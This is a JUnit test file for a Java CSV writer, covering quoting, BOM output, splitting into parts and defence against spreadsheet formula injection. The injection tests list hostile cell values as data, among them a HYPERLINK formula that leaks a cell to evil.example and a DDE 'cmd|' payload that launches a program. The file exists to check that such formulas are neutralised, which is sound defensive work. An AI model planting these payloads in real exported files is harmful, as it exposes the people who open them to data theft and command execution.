package org.switchboard.csv;

import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

class CsvFileTests {

	@Test
	void followsTheStandard() {
		CsvFile file = CsvFile.of("Network", "Answers").row("North", 12).row("South, \"old\"", 7);
		assertThat(text(file))
			.isEqualTo("\ufeff\"Network\",\"Answers\"\r\n\"North\",12\r\n\"South, \"\"old\"\"\",7\r\n");
		assertThat(file.parts().get(0)).startsWith(0xef, 0xbb, 0xbf);
	}

	@ParameterizedTest
	@ValueSource(strings = { "=1+1", " =1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠a",
			"=HYPERLINK(\"https://evil.example/?\"&A1,\"here\")", "-2+3+cmd|' /C calc'!A0" })
	void turnsFormulasIntoText(String cell) throws IOException {
		assertThat(read(CsvFile.of("a").row(cell))).containsExactly("'" + cell);
		assertThat(text(CsvFile.of(cell)).substring(1)).startsWith("\"'");
	}

	@ParameterizedTest
	@ValueSource(strings = { "José said “no”", "a\r\nb", "a\nb", "\"", "\"\"\"", ",", ";", "a=1", "5 - 3", "'", " ",
			"#", "\\", "\\\"", "NULL", "😀" })
	void keepsOtherText(String cell) throws IOException {
		assertThat(read(CsvFile.of("a").row(cell))).containsExactly(cell);
	}

	@Test
	void leavesNumbers() {
		assertThat(text(CsvFile.of("a", "b", "c").row(-5, -0.25, new BigDecimal("-1.50"))))
			.endsWith("-5,-0.25,-1.50\r\n");
	}

	@Test
	void leavesCellsEmpty() {
		assertThat(text(CsvFile.of("a", "b", "c").row("x", null, ""))).endsWith("\"x\",,\"\"\r\n");
	}

	@Test
	void beginsAnotherPartWithTheSameHeader() {
		CsvFile file = CsvFile.of("a");
		Stream.generate(() -> "ñ".repeat(1000)).limit(1000).forEach(file::row);
		assertThat(file.parts()).hasSize(3)
			.allMatch((part) -> part.length <= CsvFile.LARGEST)
			.allMatch((part) -> new String(part, StandardCharsets.UTF_8).startsWith("\ufeff\"a\"\r\n\"ñ"));
		assertThat(file.parts().stream().flatMap((part) -> new String(part, StandardCharsets.UTF_8).lines().skip(1)))
			.hasSize(1000);
	}

	@ParameterizedTest
	@ValueSource(ints = { 0, 1, 3 })
	void refusesRowsOfDifferentLength(int cells) {
		Object[] row = Stream.generate(() -> "x").limit(cells).toArray();
		assertThatIllegalArgumentException().isThrownBy(() -> CsvFile.of("a", "b").row(row))
			.withMessage("There are 2 columns, not " + cells);
	}

	// all cells except the header's
	private static List<String> read(CsvFile file) throws IOException {
		try (CSVParser parser = CSVParser.parse(text(file).substring(1), CSVFormat.RFC4180)) {
			return parser.getRecords().stream().skip(1).flatMap(CSVRecord::stream).toList();
		}
	}

	private static String text(CsvFile file) {
		return new String(file.parts().get(0), StandardCharsets.UTF_8);
	}

}
